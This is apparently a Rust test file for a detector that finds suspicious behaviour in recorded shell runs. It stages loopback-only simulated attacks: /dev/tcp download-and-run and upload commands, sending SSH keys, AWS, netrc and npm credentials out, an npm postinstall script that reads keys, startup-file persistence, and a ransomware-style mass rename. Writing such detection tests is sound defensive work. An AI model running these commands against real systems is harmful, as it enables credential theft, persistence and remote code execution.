//! `hunt` finds what its rules describe in recorded runs, and nothing in their harmless
//! neighbours. All attacks here are simulations that touch the test's own files only.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::thread::JoinHandle;

use backstory_testkit::need::{needs, skipped};
use serde_json::Value;

use super::Place;

/// A server on the loopback that gives each of `clients` the answer and takes what they send.
pub struct LoopbackServer {
    pub port: u16,
    takes: JoinHandle<()>,
}

impl LoopbackServer {
    pub fn new(clients: usize, answer: &'static str) -> LoopbackServer {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let takes = std::thread::spawn(move || {
            for _ in 0..clients {
                let (mut peer, _) = listener.accept().unwrap();
                peer.write_all(answer.as_bytes()).unwrap();
                peer.shutdown(std::net::Shutdown::Write).unwrap();
                let _ = peer.read_to_end(&mut Vec::new());
            }
        });
        LoopbackServer { port, takes }
    }

    /// A place with a server. `None`, with a notice, where nothing can connect to it.
    pub fn at_place(clients: usize, answer: &'static str) -> Option<(Place, LoopbackServer)> {
        let has_client = needs("a client", &["bash"]);
        has_client.then(|| (Place::new(), LoopbackServer::new(clients, answer)))
    }

    /// Its name as the origin of a download.
    fn address(&self) -> String {
        format!("tcp:127.0.0.1:{}", self.port)
    }

    /// A command that prints what the server answers.
    pub fn download(&self) -> String {
        format!(
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{}; cat <&3'",
            self.port
        )
    }

    /// A command that sends its input.
    pub fn upload(&self) -> String {
        format!(
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{}; cat >&3'",
            self.port
        )
    }

    /// Waits for all clients. The answer is the server's name as the origin of a download.
    pub fn end(self) -> String {
        let address = self.address();
        self.takes.join().unwrap();
        address
    }
}

/// The findings of a rule in a run.
#[track_caller]
pub fn found(place: &Place, run: &str, rule: &str) -> Vec<Value> {
    let answer = place.run(&["hunt", run, "--rule", rule, "--json"]);
    assert_eq!(answer.err, "");
    let Ok(Value::Array(found)) = serde_json::from_str(&answer.out) else {
        panic!("{answer:?}");
    };
    assert_eq!(answer.status, i32::from(found.is_empty()));
    found
}

/// The only finding of a rule in a run.
#[track_caller]
pub fn only_found(place: &Place, run: &str, rule: &str) -> Value {
    let mut all = found(place, run, rule);
    assert_eq!(all.len(), 1, "{run}: {all:?}");
    all.remove(0)
}

/// The targets of a finding's operations.
pub fn targets(finding: &Value) -> Vec<&str> {
    let steps = finding["steps"].as_array().unwrap().iter();
    steps
        .map(|step| step["target"].as_str().unwrap_or(""))
        .collect()
}

#[test]
fn a_write_to_a_start_up_file_is_found_and_a_read_is_not() {
    let place = Place::new();
    place.write("key", "k\n");
    let run = place.record(
        "mkdir -p .ssh .config/systemd/user; echo x >> .bashrc; mv key .ssh/authorized_keys; \
         echo x > .config/systemd/user/a.service",
    );
    let all = found(&place, &run, "startup-file-written");
    let mut files: Vec<&str> = all.iter().map(|one| targets(one)[0]).collect();
    files.sort_unstable();
    let wanted = [
        ".bashrc",
        ".config/systemd/user/a.service",
        ".ssh/authorized_keys",
    ];
    assert_eq!(files, wanted.map(|name| place.path(name)));
    let sources: Vec<&Value> = all.iter().map(|one| &one["steps"][0]["source"]).collect();
    let of_key = sources.iter().filter(|source| !source.is_null());
    assert_eq!(
        of_key.collect::<Vec<_>>(),
        [&&Value::from(place.path("key"))]
    );
    let text = place.run(&["hunt", &run, "--full"]).out;
    let name = place.path(".bashrc");
    assert!(!text.contains(&format!("{name} from {name}")), "{text}");
    let run = place.record("cat .bashrc > copy; echo x > bashrc; cp bashrc .bashrc.new");
    assert_eq!(
        found(&place, &run, "startup-file-written"),
        [Value::Null; 0]
    );
}

#[test]
fn a_download_that_a_shell_runs_is_found_and_one_that_it_only_reads_is_not() {
    let Some((place, server)) = LoopbackServer::at_place(4, "true\n") else {
        return;
    };
    place.write("own.sh", "true\n");
    let load = server.download();
    for line in [
        format!("{load} | sh"),
        format!("{load} > got.sh; sh got.sh"),
    ] {
        let run = place.record(&line);
        let all = found(&place, &run, "download-run-by-shell");
        assert_eq!(all.len(), 1, "{line}: {all:?}");
        assert_eq!(targets(&all[0])[0], server.address());
    }
    for line in [
        format!("x=$({load}); echo \"$x\""),
        format!("{load} | sort > out; sh own.sh"),
    ] {
        let run = place.record(&line);
        assert_eq!(
            found(&place, &run, "download-run-by-shell"),
            [Value::Null; 0],
            "{line}"
        );
    }
    server.end();
}

#[test]
fn a_secret_that_is_read_and_then_sent_is_found_and_not_the_other_way_round() {
    let Some((place, server)) = LoopbackServer::at_place(4, "") else {
        return;
    };
    std::fs::create_dir(place.work().join(".ssh")).unwrap();
    place.write(".ssh/id_ed25519", "secret\n");
    place.write(".ssh/id_ed25519.pub", "public\n");
    let send = server.upload();
    for line in [
        format!("cat .ssh/id_ed25519 | {send}"),
        format!("gzip < .ssh/id_ed25519 > x; {send} < x"),
    ] {
        let run = place.record(&line);
        let all = found(&place, &run, "secret-sent");
        assert_eq!(all.len(), 1, "{line}: {all:?}");
        let key = place.path(".ssh/id_ed25519");
        assert_eq!(targets(&all[0]), [key, server.address()]);
    }
    for line in [
        format!("echo x | {send}; cat .ssh/id_ed25519 > copy"),
        format!("cat .ssh/id_ed25519.pub | {send}"),
    ] {
        let run = place.record(&line);
        assert_eq!(
            found(&place, &run, "secret-sent"),
            [Value::Null; 0],
            "{line}"
        );
    }
    server.end();
}

/// Sends what each command prints. The rule finds the secret named beside it, or none. Copies of
/// `cat` have the names of `programs`.
#[track_caller]
fn each_sends_its_secret(place: &Place, programs: &str, cases: &[(&str, Option<&str>)]) {
    let server = LoopbackServer::new(cases.len(), "");
    let send = server.upload();
    place.record(&format!(
        "for program in {programs}; do cp \"$(command -v cat)\" $program; done"
    ));
    for (read, secret) in cases {
        let run = place.record(&format!("{read} | {send}"));
        let all = found(place, &run, "secret-sent");
        let secrets: Vec<&str> = all.iter().map(|one| targets(one)[0]).collect();
        let expected: Vec<String> = secret.iter().map(|name| place.path(name)).collect();
        assert_eq!(secrets, expected, "{read}");
    }
    server.end();
}

#[test]
fn credentials_and_the_store_of_a_browser_are_no_secrets_for_their_own_programs() {
    if !needs("a client", &["bash"]) {
        return;
    }
    let place = Place::new();
    std::fs::create_dir(place.work().join(".aws")).unwrap();
    place.write(".aws/credentials", "secret\n");
    place.write("Login Data", "secret\n");
    let cases = [
        ("cat .aws/credentials", Some(".aws/credentials")),
        ("./aws .aws/credentials", None),
        ("cat 'Login Data'", Some("Login Data")),
        ("./firefox 'Login Data'", None),
    ];
    each_sends_its_secret(&place, "aws firefox", &cases);
}

#[test]
fn passwords_of_curl_and_npm_are_no_secrets_for_these_and_are_for_other_programs() {
    if !needs("a client", &["bash"]) {
        return;
    }
    let place = Place::new();
    std::fs::create_dir(place.work().join(".aws")).unwrap();
    for file in [".aws/credentials", ".netrc", ".npmrc", "npm", "steal.js"] {
        place.write(file, "secret\n");
    }
    let cases = [
        ("cat .netrc", Some(".netrc")),
        ("./curl .aws/credentials", Some(".aws/credentials")),
        ("./curl .netrc", None),
        ("./wget .netrc", None),
        ("cat .npmrc", Some(".npmrc")),
        ("./node steal.js .npmrc", Some(".npmrc")),
        ("./node npm .npmrc", None),
    ];
    each_sends_its_secret(&place, "curl wget node", &cases);
}

#[test]
fn a_shell_that_a_server_starts_is_found_if_a_client_was_there_before() {
    if !needs("a server", &["python3"]) {
        return;
    }
    let place = Place::new();
    place.write(
        "server.py",
        "import socket, subprocess, sys\n\
         listener = socket.create_server(('127.0.0.1', 0))\n\
         client = socket.create_connection(listener.getsockname())\n\
         peer, _ = listener.accept()\n\
         if sys.argv[1] == 'before': subprocess.run(['sh', '-c', 'true'])\n\
         client.sendall(b'x')\n\
         peer.recv(1)\n\
         if sys.argv[1] == 'after': subprocess.run(['sh', '-c', 'true'])\n",
    );
    let run = place.record("python3 server.py after");
    assert_eq!(found(&place, &run, "shell-started-by-server").len(), 1);
    let run = place.record("python3 server.py before");
    assert_eq!(
        found(&place, &run, "shell-started-by-server"),
        [Value::Null; 0]
    );
}

#[test]
fn a_build_input_from_the_network_is_found_and_a_local_one_is_not() {
    if !needs("a client and a compiler", &["bash", "cc"]) {
        return;
    }
    let place = Place::new();
    place.write("m.c", "#include \"x.h\"\nint x = X;\n");
    place.write("x.h", "#define X 1\n");
    let server = LoopbackServer::new(2, "#define X 2\n");
    let load = server.download();
    let run = place.record(&format!("{load} > y.h; cc -c m.c"));
    assert_eq!(
        found(&place, &run, "build-input-from-network"),
        [Value::Null; 0]
    );
    let run = place.record(&format!("{load} > x.h; cc -c m.c"));
    let all = found(&place, &run, "build-input-from-network");
    assert!(
        all.iter().any(|one| targets(one)[1] == place.path("x.h")),
        "{all:?}"
    );
    server.end();
}

/// An imitation of npm, which runs the script of a package.
const NPM: &str = "#!/bin/sh\ncase $1 in install) sh package/postinstall.sh ;; esac\n";

/// Writes it, with a package that has this script.
pub fn npm(place: &Place, script: &str) {
    std::fs::create_dir_all(place.work().join(".ssh")).unwrap();
    std::fs::create_dir_all(place.work().join("package")).unwrap();
    place.write(".ssh/id_ed25519", "secret\n");
    place.write(".ssh/known_hosts", "host\n");
    place.write_program("npm", NPM);
    place.write("package/postinstall.sh", script);
}

#[test]
fn an_install_script_that_reads_keys_is_found_and_known_hosts_are_not() {
    let place = Place::new();
    npm(&place, "cat .ssh/id_ed25519 > /dev/null\n");
    let run = place.record("./npm install");
    assert_eq!(found(&place, &run, "install-script-reads-keys").len(), 1);
    place.write(
        "package/postinstall.sh",
        "cat .ssh/known_hosts > /dev/null\n",
    );
    let run = place.record("./npm install; ./npm test; cat .ssh/id_ed25519 > /dev/null");
    assert_eq!(
        found(&place, &run, "install-script-reads-keys"),
        [Value::Null; 0]
    );
}

/// Records an install by npm itself of a package that has this script. `None` if the stage has no
/// npm.
pub fn installed_by_npm(place: &Place, script: &str) -> Option<String> {
    let scripts = serde_json::json!({ "postinstall": script });
    let package = serde_json::json!({ "name": "p", "version": "1.0.0", "scripts": scripts });
    place.write("package.json", &package.to_string());
    let summary = place.path("..summary.json");
    let line = "command -v npm > /dev/null && command -v node > /dev/null || exit 77\n\
                export npm_config_cache=\"$PWD/cache\" npm_config_update_notifier=false\n\
                npm install --silent --offline --no-audit --no-fund";
    let record = ["record", "--json-summary", &summary, "--", "sh", "-c", line];
    let answer = place.run(&record);
    if answer.status == 77 {
        skipped("an install by npm itself", "needs npm and node");
        return None;
    }
    assert_eq!(answer.status, 0, "{answer:?}");
    let text = std::fs::read(&summary).unwrap();
    std::fs::remove_file(&summary).unwrap();
    let read: Value = serde_json::from_slice(&text).unwrap();
    Some(read["run"].as_str().unwrap().to_owned())
}

#[test]
fn an_install_script_that_npm_itself_runs_is_found_if_it_reads_keys() {
    let place = Place::new();
    npm(&place, "");
    let rule = "install-script-reads-keys";
    let Some(run) = installed_by_npm(&place, "cat .ssh/known_hosts > /dev/null") else {
        return;
    };
    assert_eq!(found(&place, &run, rule), [Value::Null; 0]);
    let run = installed_by_npm(&place, "cat .ssh/id_ed25519 > /dev/null").unwrap();
    let all = found(&place, &run, rule);
    assert_eq!(all.len(), 1, "{all:?}");
    assert_eq!(targets(&all[0]), [place.path(".ssh/id_ed25519")]);
}

#[test]
fn a_file_that_is_deleted_after_it_was_sent_is_found_and_another_one_is_not() {
    let Some((place, server)) = LoopbackServer::at_place(2, "") else {
        return;
    };
    for name in ["a", "b"] {
        place.write_aged(name, "content\n");
    }
    let send = server.upload();
    let run = place.record(&format!("cat a | {send}; rm b"));
    assert_eq!(found(&place, &run, "deleted-after-sent"), [Value::Null; 0]);
    let run = place.record(&format!("cat a | {send}; rm a"));
    let all = found(&place, &run, "deleted-after-sent");
    assert_eq!(all.len(), 1, "{all:?}");
    assert_eq!(targets(&all[0])[2], place.path("a"));
    server.end();
}

#[test]
fn an_output_that_something_unrecorded_changed_is_found_and_what_runs_wrote_or_copied_is_not() {
    let place = Place::new();
    let rule = "output-changed-outside";
    let use_of = |file: &str| {
        let run = place.record(&format!("cat {file} > ..seen"));
        found(&place, &run, rule)
    };
    place.write_aged("source", "by hand, and never made by a run\n");
    place.record("cat source > result; cp result copy");
    assert_eq!(use_of("result"), [Value::Null; 0]);
    // A source may change: no run made it.
    place.write_aged("source", "changed by hand\n");
    assert_eq!(use_of("source"), [Value::Null; 0]);
    // A later run makes another version.
    place.record("cat source > result");
    assert_eq!(use_of("result"), [Value::Null; 0]);
    place.write_aged("result", "tampered with\n");
    let all = use_of("result");
    assert_eq!(all.len(), 1, "{all:?}");
    assert_eq!(targets(&all[0]), [place.path("result")]);
    let page = format!("/run/{}", all[0]["run"].as_str().unwrap());
    assert_eq!(all[0]["page"], *page);
    place.record("cat source > result");
    assert_eq!(use_of("result"), [Value::Null; 0]);
}

#[test]
fn older_files_that_give_way_to_longer_names_are_found_and_other_renames_and_removals_are_not() {
    let filled = || {
        let place = Place::new();
        (0..25).for_each(|number| place.write(format!("f{number}"), "x\n"));
        place
    };
    for harmless in [
        "for i in 1 2 3; do mv f$i f$i.locked; done",
        "for f in f*; do mv $f $f.locked; mv $f.locked $f; done",
        "for i in $(seq 25); do echo x > n$i; mv n$i n$i.locked; done",
        "rm f*",
        "mkdir sorted; mv f* sorted",
        "for f in f*; do mv $f $f.bak; echo y > $f; done",
        "gzip f*",
    ] {
        let place = filled();
        let run = place.record(harmless);
        let all = found(&place, &run, "rename-storm");
        assert_eq!(all, [Value::Null; 0], "{harmless}");
    }
    let place = filled();
    let run = place.record("for f in f*; do mv $f $f.locked; done");
    let all = found(&place, &run, "rename-storm");
    assert_eq!((all.len(), &all[0]["count"]), (1, &25.into()), "{all:?}");
}

#[test]
fn a_checkout_that_removes_and_rewrites_many_files_is_no_storm_of_renames() {
    if !needs("git", &["git"]) {
        return;
    }
    let place = Place::new();
    place.git(&["init", "-q"]);
    (0..50).for_each(|number| place.write(format!("f{number}"), "1\n"));
    place.git(&["add", "."]);
    place.git(&["commit", "-qm", "1"]);
    (0..25).for_each(|number| place.write(format!("f{number}"), "2\n"));
    (25..50)
        .for_each(|number| std::fs::remove_file(place.work().join(format!("f{number}"))).unwrap());
    place.git(&["add", "-A"]);
    place.git(&["commit", "-qm", "2"]);
    let run = place.record("git checkout -q HEAD~1; git checkout -q -");
    assert_eq!(found(&place, &run, "rename-storm"), [Value::Null; 0]);
}

#[test]
fn a_copy_of_an_output_that_was_changed_outside_does_not_explain_the_change() {
    let place = Place::new();
    let rule = "output-changed-outside";
    place.record("echo made > out");
    place.write("out", "changed outside of all recordings\n");
    let run = place.record("cat out > copy");
    place.record("cat copy > other");
    // Until then, the digests of contents are not known.
    assert_eq!(place.run(&["index", "--wait"]).status, 0);
    assert_eq!(targets(&found(&place, &run, rule)[0]), [place.path("out")]);
    // Another run made this content before.
    place.record("echo elsewhere > source");
    std::fs::copy(place.work().join("source"), place.work().join("out")).unwrap();
    let run = place.record("cat out > copy");
    assert_eq!(place.run(&["index", "--wait"]).status, 0);
    assert_eq!(found(&place, &run, rule), [Value::Null; 0]);
}
